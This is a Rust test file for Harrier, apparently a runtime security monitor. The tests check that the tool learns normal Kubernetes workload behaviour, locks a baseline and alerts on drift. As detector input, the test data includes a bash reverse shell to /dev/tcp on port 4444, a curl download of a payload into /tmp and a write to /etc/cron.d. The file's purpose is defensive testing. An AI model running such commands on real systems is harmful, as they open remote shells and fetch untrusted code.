//! The baseline lifecycle over recorded event streams in Harrier's JSON-lines format:
//! learn → lock → drift alert; a person's edit of the file honoured; a restart keeping
//! learning and locked state; poisoning during learning flagged, not allowed.
#![allow(clippy::unwrap_used, clippy::expect_used)] // a panic is a failed test

use harrier_runtime::baseline::{self, Baselines, EntryStatus, Learn, Settings, State, file};
use harrier_runtime::event::Event;
use harrier_runtime::profiles::{self, PROFILES};
use harrier_runtime::rules::Loader;
use harrier_runtime::{Alert, Engine, decode};
use serde_json::{Value, json};

fn pod_event(pod: &str, t: i64, kind: &str) -> Value {
    json!({"source": "syscall", "time_ns": 1_700_000_000_000_000_000_i64 + t * 1_000_000_000, "type": kind, "res": 0,
           "process": {"pid": 100 + t, "name": "nginx", "exepath": "/usr/sbin/nginx", "args": ["-g", "daemon off;"], "uid": 101},
           "container": {"id": format!("c0ffee{pod}"), "name": "web", "image": "shop/web:1.4", "image_repository": "shop/web"},
           "k8s": {"namespace": "shop", "pod_name": pod, "owner_kind": "Deployment", "owner_name": "web"},
           "hostname": "node-1"})
}

fn exec(pod: &str, t: i64, exe: &str, args: &[&str]) -> Value {
    let mut e = pod_event(pod, t, "execve");
    let name = exe.rsplit('/').next().unwrap();
    e["process"]["name"] = json!(name);
    e["process"]["exepath"] = json!(exe);
    e["process"]["args"] = json!(args);
    e
}

fn write(pod: &str, t: i64, path: &str) -> Value {
    let mut e = pod_event(pod, t, "openat");
    e["open_flags"] = json!({"write": true, "create": true});
    e["fd"] = json!({"num": 5, "kind": "file", "name": path});
    e
}

fn connect(pod: &str, t: i64, ip: &str, port: u16) -> Value {
    let mut e = pod_event(pod, t, "connect");
    e["fd"] = json!({"num": 6, "kind": "ipv4", "l4proto": "tcp", "client_ip": "10.1.0.7", "client_port": 40000,
                     "server_ip": ip, "server_port": port, "connected": true});
    e
}

fn listen(pod: &str, t: i64, port: u16) -> Value {
    let mut e = pod_event(pod, t, "listen");
    e["fd"] = json!({"num": 3, "kind": "ipv4", "l4proto": "tcp", "server_ip": "0.0.0.0", "server_port": port, "is_server": true});
    e
}

/// Normal activity of two pods of Deployment `web`, several times each.
fn normal(t0: i64) -> Vec<Value> {
    let mut out = Vec::new();
    for (i, pod) in ["web-1", "web-2"].iter().enumerate() {
        for round in 0..3 {
            let t = t0 + (i as i64) * 100 + round * 10;
            out.push(exec(pod, t, "/usr/sbin/nginx", &["-g", "daemon off;"]));
            out.push(exec(
                pod,
                t + 1,
                "/usr/local/bin/worker",
                &[
                    "--id",
                    &format!("{}", 17 + round),
                    "--tmp",
                    &format!("/tmp/job.{round}x"),
                ],
            ));
            out.push(write(
                pod,
                t + 2,
                &format!("/var/cache/nginx/proxy_temp/{round}/0000000{round}1"),
            ));
            out.push(connect(pod, t + 3, "10.96.0.10", 53));
            out.push(listen(pod, t + 4, 8080));
        }
    }
    out
}

fn events(values: &[Value]) -> Vec<Event> {
    let text: String = values.iter().map(|v| format!("{v}\n")).collect();
    let (events, errors) = decode::decode(&text);
    assert!(errors.is_empty(), "{errors:?}");
    events
}

fn profile_engine() -> Engine {
    let mut loader = Loader::new();
    profiles::add_to(&mut loader, &PROFILES.iter().collect::<Vec<_>>());
    Engine::new(&loader.compile())
}

/// Runs events through profiles then baselines, as `harrier replay` does.
fn run(b: &mut Baselines, engine: &Engine, values: &[Value]) -> Vec<Alert> {
    let mut alerts = Vec::new();
    for e in events(values) {
        let mut hits = Vec::new();
        engine.evaluate(&e, |r| {
            if profiles::profile_of(&r.tags).is_some() {
                hits.push(r.name.as_str());
            }
        });
        alerts.extend(b.observe(&e, &hits, "test"));
    }
    alerts
}

fn drift_entries(alerts: &[Alert]) -> Vec<String> {
    alerts
        .iter()
        .map(|a| {
            assert!(a.tags.contains(&"harrier.baseline".to_string()));
            assert_eq!(a.source, "syscall");
            format!(
                "{} {}",
                a.output_fields["harrier.baseline.kind"].as_str().unwrap(),
                a.output_fields["harrier.baseline.entry"].as_str().unwrap()
            )
        })
        .collect()
}

#[test]
fn learn_lock_then_drift() {
    let engine = profile_engine();
    let settings = Settings {
        learn: Learn::Events(30),
        min_observations: 3,
        min_pods: 2,
    };
    let mut b = Baselines::new(settings);
    let learned = normal(0);
    assert_eq!(learned.len(), 30);
    assert!(
        run(&mut b, &engine, &learned).is_empty(),
        "no alert while learning"
    );
    // The same behaviour after learning: other numbers and temp files, same shapes.
    let mut after = normal(1000);
    after.push(exec(
        "web-3",
        2000,
        "/usr/local/bin/worker",
        &["--id", "99", "--tmp", "/tmp/job.zz"],
    ));
    assert!(
        run(&mut b, &engine, &after).is_empty(),
        "{:?}",
        drift_entries(&run(&mut b, &engine, &after))
    );
    let base = b.iter().next().unwrap();
    assert_eq!(base.state, State::Locked);
    assert_eq!(base.counts(), (5, 0, 0));
    let locked = b.take_newly_locked();
    assert_eq!(locked.len(), 1);
    assert_eq!(locked[0].owner_name, "web");
    assert!(b.take_newly_locked().is_empty());
    // Drift of every kind, each alerted once.
    let drift = vec![
        exec("web-1", 3000, "/bin/sh", &["-c", "id"]),
        exec("web-1", 3001, "/bin/sh", &["-c", "id"]),
        write("web-2", 3002, "/etc/cron.d/job"),
        connect("web-2", 3003, "203.0.113.50", 4444),
        listen("web-1", 3004, 31337),
    ];
    let alerts = run(&mut b, &engine, &drift);
    assert_eq!(
        drift_entries(&alerts),
        [
            "process /bin/sh -c id",
            "file_write /etc/cron.d/*",
            "network 203.0.113.50:4444 tcp",
            "listening 31337 tcp"
        ]
    );
    assert_eq!(b.repeats, 1);
    let a = &alerts[0];
    assert_eq!(a.rule, "Harrier Baseline Drift: Process");
    assert_eq!(a.output_fields["k8s.pod.name"], "web-1");
    assert_eq!(a.output_fields["harrier.baseline.status"], "new");
    assert!(
        a.output
            .contains("Deployment shop/web container web (shop/web)"),
        "{}",
        a.output
    );
    // Host processes and other workloads' first events are not drift: they start learning.
    let mut other = exec("api-1", 3005, "/bin/sh", &[]);
    other["k8s"]["owner_name"] = json!("api");
    assert!(run(&mut b, &engine, &[other]).is_empty());
}

#[test]
fn poisoning_during_learning_is_flagged() {
    let engine = profile_engine();
    let settings = Settings {
        learn: Learn::Duration(baseline::parse_duration("10m").unwrap()),
        min_observations: 3,
        min_pods: 2,
    };
    let mut b = Baselines::new(settings);
    let mut learning = normal(0);
    // An attacker during learning: a reverse shell run five times (matches a threat profile),
    // a one-off download, and a process seen often but in one pod of two.
    for i in 0..5 {
        learning.push(exec(
            "web-2",
            300 + i,
            "/bin/bash",
            &["-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
        ));
    }
    learning.push(exec(
        "web-1",
        310,
        "/usr/bin/curl",
        &["-o", "/tmp/x", "http://203.0.113.5/x"],
    ));
    for i in 0..4 {
        learning.push(exec("web-1", 320 + i, "/usr/bin/debug-helper", &[]));
    }
    assert!(run(&mut b, &engine, &learning).is_empty());
    // Event time passes the 10 minutes: the next event locks.
    let after = vec![
        exec(
            "web-1",
            1000,
            "/bin/bash",
            &["-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
        ),
        exec(
            "web-1",
            1001,
            "/usr/bin/curl",
            &["-o", "/tmp/y", "http://203.0.113.5/x"],
        ),
        exec("web-2", 1002, "/usr/bin/debug-helper", &[]),
        exec("web-2", 1003, "/usr/sbin/nginx", &["-g", "daemon off;"]),
    ];
    let alerts = run(&mut b, &engine, &after);
    let base = b.iter().next().unwrap();
    assert_eq!(base.state, State::Locked);
    let flagged: Vec<(String, String)> = base
        .entries
        .iter()
        .filter(|e| e.status == EntryStatus::Flagged)
        .map(|e| (e.key.describe(), e.reason.clone().unwrap()))
        .collect();
    assert_eq!(flagged.len(), 3, "{flagged:?}");
    assert!(
        flagged[0]
            .1
            .contains("matched threat-profile rule `Harrier Reverse Shell Command Executed`"),
        "{flagged:?}"
    );
    assert_eq!(flagged[1].1, "seen once while learning");
    assert!(flagged[2].1.contains("seen in 1 of 2 pods"), "{flagged:?}");
    // The three drift (the reverse shell also raises its profile rule in replay); nginx does not.
    let entries = drift_entries(&alerts);
    assert_eq!(entries.len(), 3, "{entries:?}");
    assert!(
        alerts
            .iter()
            .all(|a| a.output_fields["harrier.baseline.status"] == "flagged")
    );
    assert!(
        alerts[0]
            .output
            .contains("flagged in the baseline: matched threat-profile rule")
    );
}

#[test]
fn files_persist_across_restarts_and_edits_are_honoured() {
    let engine = profile_engine();
    let dir = std::env::temp_dir().join(format!("harrier-baselines-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let settings = Settings {
        learn: Learn::Events(1000),
        min_observations: 3,
        min_pods: 2,
    };

    // First run: learn half, save (still learning).
    let mut b = Baselines::new(settings);
    let all = normal(0);
    run(&mut b, &engine, &all[..15]);
    let written = file::save_dir(&dir, &b).unwrap();
    assert_eq!(written.len(), 1);
    assert!(written[0].ends_with("shop.deployment.web.web.yaml"));
    let text = std::fs::read_to_string(&written[0]).unwrap();
    assert!(
        text.contains("status: learning") && text.contains("events: 15"),
        "{text}"
    );

    // Restart: the learning state continues from the file; lock by hand and save.
    let mut b = Baselines::new(settings);
    assert!(file::load_dir(&dir, &mut b).is_empty());
    assert_eq!(b.iter().next().unwrap().events, 15);
    run(&mut b, &engine, &all[15..]);
    assert_eq!(b.iter().next().unwrap().events, 30);
    b.lock_all();
    file::save_dir(&dir, &b).unwrap();
    let text = std::fs::read_to_string(&written[0]).unwrap();
    assert!(text.contains("status: locked"), "{text}");
    assert!(!text.contains("status: flagged"), "{text}");

    // A person edits the file: allows /bin/sh -c *, a whole network, and removes the
    // listening port.
    let edited = text
        .replace("processes:\n", "processes:\n  - exe: \"/bin/sh\"\n    args: \"-c *\"\n")
        .replace("network:\n", "network:\n  - address: \"203.0.113.0/24\"\n    port: 443\n")
        .replace("listening:\n  - port: 8080\n    proto: \"tcp\"\n    status: allowed\n", "listening:\n  - port: 8080\n    proto: \"tcp\"\n    status: flagged\n    reason: \"should not listen\"\n");
    assert_ne!(edited, text);
    std::fs::write(&written[0], &edited).unwrap();

    // Restart: locked, with the edits.
    let mut b = Baselines::new(settings);
    assert!(file::load_dir(&dir, &mut b).is_empty());
    assert_eq!(b.iter().next().unwrap().state, State::Locked);
    let alerts = run(
        &mut b,
        &engine,
        &[
            exec("web-1", 5000, "/bin/sh", &["-c", "date"]),
            connect("web-1", 5001, "203.0.113.77", 443),
            connect("web-1", 5002, "203.0.113.77", 80),
            listen("web-2", 5003, 8080),
            exec("web-2", 5004, "/usr/sbin/nginx", &["-g", "daemon off;"]),
        ],
    );
    assert_eq!(
        drift_entries(&alerts),
        ["network 203.0.113.77:80 tcp", "listening 8080 tcp"]
    );
    assert!(alerts[1].output.contains("should not listen"));

    // A broken edit names the file and line.
    std::fs::write(&written[0], edited.replace("port: 443", "port: https")).unwrap();
    let mut b = Baselines::new(settings);
    let errors = file::load_dir(&dir, &mut b);
    assert_eq!(errors.len(), 1);
    let msg = errors[0].to_string();
    assert!(
        msg.starts_with(&format!("{}:", written[0].display())),
        "{msg}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}
